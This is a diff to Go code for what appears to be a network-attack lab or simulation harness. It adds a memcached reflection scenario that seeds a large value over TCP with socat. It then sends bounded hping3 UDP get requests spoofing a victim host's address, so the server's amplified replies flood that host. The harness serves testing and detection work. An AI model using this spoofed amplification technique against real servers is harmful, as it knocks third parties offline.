@@ -8,9 +8,9 @@ import (
 	"time"
 )
 
-// Denial of service: hping3 floods with random sources, and a DNS
-// reflection with the victim's address forged. Each is bounded by a packet
-// count and an interval (hping3 -c and -i), never --flood.
+// Denial of service: hping3 floods with random sources, and DNS and
+// memcached reflections with the victim's address forged. Each is bounded
+// by a packet count and an interval (hping3 -c and -i), never --flood.
 
 // floodRate is the floods' packets per second.
 const floodRate = 1000
@@ -44,7 +44,86 @@ func init() {
 					hostServer.IPv4().String())
 			},
 		},
+		&Scenario{
+			Name: "memcached-amplification", Difficulty: Medium,
+			Description: fmt.Sprintf("memcached reflection (2018): the attacker stores a %d KB value on srv's open memcached over TCP, then sends UDP get requests for it with ws1's address as source (%d/s); each ~%d KB answer, in %d datagrams, goes to ws1.",
+				memcachedValueLen/1000, memcachedRate, memcachedValueLen/1000, memcachedDatagrams()),
+			Tools: []string{"memcached", "socat", "hping3"}, Classes: []string{"flood.amplification"}, MITRE: []string{"T1498.002"},
+			Attacker: hostPtr(hostAtk), Victims: v4(hostWS1, hostServer), Duration: 15 * time.Second,
+			Notes:    "the get requests carry ws1's address as source (forged: their source MAC is the attacker's); srv's memcached (UDP on, as before memcached 1.5.6) is the reflector; the value was stored over TCP from the attacker's own address",
+			services: []service{{hostServer, "memcached", memcachedConfig, []int{memcachedPort}, []int{memcachedPort}}},
+			attack:   memcachedAttack,
+		},
 	)
+}
+
+// The memcached reflection: the value stored, and the rate of forged
+// requests for it.
+const (
+	memcachedPort     = 11211
+	memcachedKey      = "a"
+	memcachedValueLen = 100_000
+	memcachedRate     = 10
+	// memcachedUDPPayload is the largest UDP payload memcached sends,
+	// its 8-byte frame header included (UDP_MAX_PAYLOAD_SIZE).
+	memcachedUDPPayload = 1400
+)
+
+// memcachedDatagrams is how many datagrams answer one get: the value, its
+// VALUE line and END, cut into memcachedUDPPayload-byte pieces.
+func memcachedDatagrams() int {
+	n := len(memcachedValueHeader()) + memcachedValueLen + len("\r\nEND\r\n")
+	return (n + memcachedUDPPayload - 9) / (memcachedUDPPayload - 8)
+}
+
+func memcachedValueHeader() string {
+	return fmt.Sprintf("VALUE %s 0 %d\r\n", memcachedKey, memcachedValueLen)
+}
+
+func memcachedAttack(a *attackRun) error {
+	seed, request, err := writeMemcachedPayloads(a.w)
+	if err != nil {
+		return err
+	}
+	srv := hostServer.IPv4().String()
+	return a.sequence(
+		// As attackers seed open servers: one set over TCP, then quit
+		// (memcached closes; shut-none keeps socat from half-closing
+		// before the answer).
+		a.phased("store the value", func() error {
+			return a.run(hostAtk, "socat", "-t", "5", "OPEN:"+seed+",rdonly!!STDOUT",
+				fmt.Sprintf("TCP:%s:%d,connect-timeout=5,shut-none", srv, memcachedPort))
+		}),
+		a.phased("forged get requests", func() error {
+			return a.run(hostAtk, "hping3", "--udp", "-a", hostWS1.IPv4().String(), "-s", "33000", "-k",
+				"-p", fmt.Sprint(memcachedPort), "-E", request, "-d", fmt.Sprint(len(memcachedRequest())),
+				"-i", fmt.Sprintf("u%d", 1_000_000/memcachedRate), "-c", fmt.Sprint(count(memcachedRate, a.duration)), srv)
+		}),
+	)
+}
+
+// memcachedRequest is a get over UDP: memcached's 8-byte frame header
+// (request id, sequence number 0, 1 datagram, reserved) and the text
+// command.
+func memcachedRequest() []byte {
+	return append([]byte{0x13, 0x37, 0, 0, 0, 1, 0, 0}, "get "+memcachedKey+"\r\n"...)
+}
+
+// memcachedSeed is the TCP session that stores the value.
+func memcachedSeed() []byte {
+	b := []byte(fmt.Sprintf("set %s 0 0 %d\r\n", memcachedKey, memcachedValueLen))
+	b = append(b, strings.Repeat("0123456789abcdef", memcachedValueLen/16+1)[:memcachedValueLen]...)
+	return append(b, "\r\nquit\r\n"...)
+}
+
+func writeMemcachedPayloads(w workDir) (seed, request string, err error) {
+	if seed, err = w.write("memcached-seed.txt", string(memcachedSeed()), 0o644); err != nil {
+		return "", "", err
+	}
+	if request, err = w.write("memcached-get.bin", string(memcachedRequest()), 0o644); err != nil {
+		return "", "", err
+	}
+	return seed, request, nil
 }
 
 // floodScenario is an hping3 flood of the server with random sources.
